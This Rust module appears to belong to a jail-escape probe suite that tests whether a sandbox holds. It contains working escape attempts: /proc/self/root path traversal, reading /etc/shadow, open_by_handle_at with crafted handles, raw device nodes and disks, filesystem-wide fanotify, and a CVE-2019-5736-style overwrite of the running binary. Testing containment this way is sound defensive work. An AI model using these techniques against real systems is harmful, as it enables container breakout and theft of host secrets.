//! Files outside the jail, and devices.

use std::fs::{self, File, OpenOptions};
use std::io::{Read, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{FileTypeExt, PermissionsExt};
use std::path::Path;

use crate::call::{Result, c, ignore, sys};
use crate::outcome::{Arguments, Named, Outcome, Tries};

pub(crate) const PROBES: &[Named] = &[
    ("read-host-file", read_host_file),
    ("list-host-files", list_host_files),
    ("read-shadow", read_shadow),
    ("write-host-file", write_host_file),
    ("make-host-file", make_host_file),
    ("open-by-handle", open_by_handle),
    ("make-device", make_device),
    ("host-devices", host_devices),
    ("watch-file-system", watch_file_system),
    ("replace-own-program", replace_own_program),
];

/// PATH: a file outside.
pub(crate) fn read_host_file(args: &Arguments) -> Outcome {
    let path = args.text(0);
    let mut tries = Tries::new();
    for before in [
        "",
        "/proc/self/root",
        "/proc/thread-self/root",
        "/proc/self/cwd/../../../../..",
        "/job/../../../..",
        "/tmp/..",
    ] {
        let path = format!("{before}{path}");
        if let Some(content) = tries.of(&path, fs::read_to_string(&path)) {
            return Outcome::escaped(format!("{path} says {content}"));
        }
    }
    tries.blocked()
}

/// ROOT NAME: looks for a file called NAME beneath ROOT.
fn list_host_files(args: &Arguments) -> Outcome {
    let mut seen = 0;
    match find(Path::new(args.text(0)), args.text(1), 5, &mut seen) {
        Some(path) => Outcome::escaped(format!("found {path}")),
        None => Outcome::Blocked(format!("not among {seen} names")),
    }
}

pub(crate) fn find(directory: &Path, name: &str, depth: u32, seen: &mut u32) -> Option<String> {
    for entry in fs::read_dir(directory).ok()?.flatten() {
        *seen += 1;
        if entry.file_name().to_str() == Some(name) {
            return Some(entry.path().display().to_string());
        }
        let below =
            entry.file_type().is_ok_and(|kind| kind.is_dir()) && depth > 0 && entry.path() != Path::new("/proc");
        if let Some(found) = below.then(|| find(&entry.path(), name, depth - 1, seen)).flatten() {
            return Some(found);
        }
    }
    None
}

fn read_shadow(_: &Arguments) -> Outcome {
    let mut tries = Tries::new();
    for path in ["/etc/shadow", "/etc/gshadow", "/proc/self/root/etc/shadow"] {
        if let Some(content) = tries.of(path, fs::read(path)) {
            return Outcome::escaped(format!("{path} has {} bytes", content.len()));
        }
    }
    tries.blocked()
}

/// PATH TEXT: writes TEXT at the end of a file outside that everybody may write.
fn write_host_file(args: &Arguments) -> Outcome {
    let mut tries = Tries::new();
    for before in ["", "/proc/self/root", "/job/../..", "/tmp/.."] {
        let path = format!("{before}{}", args.text(0));
        let opened = OpenOptions::new().append(true).open(&path);
        if let Some(mut file) = tries.of(&path, opened)
            && tries.of(&path, file.write_all(args.text(1).as_bytes())).is_some()
        {
            return Outcome::escaped(format!("wrote to {path}"));
        }
    }
    tries.blocked()
}

/// NAME DIRECTORIES…: makes a file in one of them.
fn make_host_file(args: &Arguments) -> Outcome {
    let mut tries = Tries::new();
    for directory in &args.all()[1..] {
        let path = format!("{directory}/{}", args.text(0));
        if tries.of(&path, fs::write(&path, "made by the job")).is_some() {
            return Outcome::escaped(format!("made {path}"));
        }
        if tries.of(&path, fs::create_dir(&path)).is_some() {
            return Outcome::escaped(format!("made the directory {path}"));
        }
    }
    tries.blocked()
}

/// HANDLE: the file handle, in hexadecimal, of a file outside; any descriptor on the same file system will do as the
/// mount, and a jail's read-only binds are on the host's.
fn open_by_handle(args: &Arguments) -> Outcome {
    let handle: Vec<u8> = args
        .text(0)
        .as_bytes()
        .chunks(2)
        .filter_map(|pair| u8::from_str_radix(str::from_utf8(pair).ok()?, 16).ok())
        .collect();
    let mut tries = Tries::new();
    for mount in [args.text(1), "/usr", "/opt/lazaret-escape", "/etc", "/", "/job", "."] {
        let Ok(directory) = File::open(mount) else { continue };
        let opened = sys!(open_by_handle_at, directory.as_raw_fd(), handle.as_ptr(), libc::O_RDONLY);
        if let Some(descriptor) = tries.of(format!("open_by_handle_at in {mount}"), opened)
            && let Some(content) = tries.of("read", fs::read_to_string(format!("/proc/self/fd/{descriptor}")))
        {
            return Outcome::escaped(format!("read {content}"));
        }
    }
    tries.blocked()
}

/// The handle of `path` in hexadecimal, as `open-by-handle` takes it.
pub(crate) fn handle(path: &str) -> Result<String> {
    const ROOM: usize = 128;
    let mut handle = [0_u8; 8 + ROOM];
    handle[0] = ROOM as u8;
    let path = c(path);
    let mut mount = 0_i32;
    sys!(name_to_handle_at, libc::AT_FDCWD, path.as_ptr(), handle.as_mut_ptr(), &raw mut mount, 0)?;
    let length = 8 + usize::from(handle[0]);
    Ok(handle[..length].iter().map(|byte| format!("{byte:02x}")).collect())
}

/// DIRECTORIES…: a node for /dev/zero, and for the disk that holds `/usr`, in every place that can be written.
fn make_device(args: &Arguments) -> Outcome {
    let mut tries = Tries::new();
    let disk = fs::metadata("/usr").map_or(0, |usr| std::os::unix::fs::MetadataExt::dev(&usr));
    let nodes = [(libc::S_IFCHR, libc::makedev(1, 5)), (libc::S_IFBLK, disk)];
    for directory in args.all().iter().map(String::as_str).chain(["/job", "/tmp", "/dev", "/dev/shm", "."]) {
        for (kind, device) in nodes {
            let path = format!("{directory}/node-{kind:o}");
            let made = sys!(mknodat, libc::AT_FDCWD, c(path.as_str()).as_ptr(), kind | 0o666, device);
            if tries.of(format!("mknod {path}"), made).is_none() {
                continue;
            }
            let mut bytes = [0; 512];
            let read = File::open(&path).and_then(|mut file| file.read_exact(&mut bytes));
            ignore(fs::remove_file(&path));
            if tries.of(format!("read {path}"), read).is_some() {
                return Outcome::escaped(format!("made and read a device node in {directory}"));
            }
        }
    }
    tries.blocked()
}

/// Opens nodes that a job has no use for, wherever they may be.
fn host_devices(_: &Arguments) -> Outcome {
    let named = [
        "mem",
        "port",
        "kmsg",
        "kvm",
        "fuse",
        "console",
        "tty0",
        "tty1",
        "userfaultfd",
        "loop-control",
        "loop0",
        "net/tun",
        "vsock",
        "autofs",
        "hwrng",
        "vda",
        "sda",
        "nvme0n1",
        "zram0",
        "cpu_dma_latency",
        "vhost-vsock",
    ];
    let mut tries = Tries::new();
    for name in named {
        let path = format!("/dev/{name}");
        if tries.of(&path, File::open(&path)).is_some() {
            return Outcome::escaped(format!("opened {path}"));
        }
    }
    // What else is there: a directory that the list does not name may still hold a disk.
    for entry in fs::read_dir("/dev").into_iter().flatten().flatten() {
        let block = entry.file_type().is_ok_and(|kind| kind.is_block_device());
        if block && tries.of(entry.path().display(), File::open(entry.path())).is_some() {
            return Outcome::escaped(format!("opened {}", entry.path().display()));
        }
    }
    tries.blocked()
}

/// Asks to hear of everything that is opened on a file system of the host.
fn watch_file_system(_: &Arguments) -> Outcome {
    const FAN_CLASS_CONTENT: u32 = 4;
    const FAN_MARK_ADD_FILESYSTEM: u32 = 0x101;
    const FAN_OPEN: u64 = 0x20;
    let mut tries = Tries::new();
    // The second form, which reports identifiers and no descriptors, is open to the unprivileged, but not for a mark
    // on a whole file system.
    for class in [FAN_CLASS_CONTENT, 0, 0x200] {
        let Some(group) = tries.of("fanotify_init", sys!(fanotify_init, class, libc::O_RDONLY)) else { continue };
        let root = c("/usr");
        let marked = sys!(fanotify_mark, group, FAN_MARK_ADD_FILESYSTEM, FAN_OPEN, libc::AT_FDCWD, root.as_ptr());
        if tries.of("fanotify_mark", marked).is_some() {
            return Outcome::escaped("hears of every file that is opened beside it");
        }
    }
    tries.blocked()
}

/// TEXT: appends TEXT to the program that runs, once nothing runs it any more (CVE-2019-5736). `O_PATH` descriptors
/// of it outlive an `execve` and can be opened anew for writing.
fn replace_own_program(args: &Arguments) -> Outcome {
    let mut tries = Tries::new();
    let script = "for fd in 7 8; do i=0; while [ $i -lt 40 ]; do \
        if printf %s \"$0\" 2>/dev/null >>/proc/self/fd/$fd; then echo ESCAPED wrote to the program; exit 0; fi; \
        i=$((i+1)); done; done; echo blocked: could not write to the program; exit 1";
    for (descriptor, path) in [(7, "/proc/self/exe"), (8, "/proc/1/exe")] {
        let opened = sys!(openat, libc::AT_FDCWD, c(path).as_ptr(), libc::O_PATH);
        if let Some(held) = tries.of(path, opened) {
            // SAFETY: two numbers; descriptors 7 and 8 are ours to replace.
            unsafe { libc::dup2(i32::try_from(held).unwrap_or(-1), descriptor) };
        }
    }
    let failed = std::os::unix::process::CommandExt::exec(std::process::Command::new("/bin/sh").args([
        "-c",
        script,
        args.text(0),
    ]));
    tries.failed("/bin/sh", failed);
    tries.blocked()
}

/// Makes `path` writable for all, whatever the umask.
pub(crate) fn open_to_all(path: &Path) -> std::io::Result<()> {
    fs::set_permissions(path, fs::Permissions::from_mode(0o777))
}
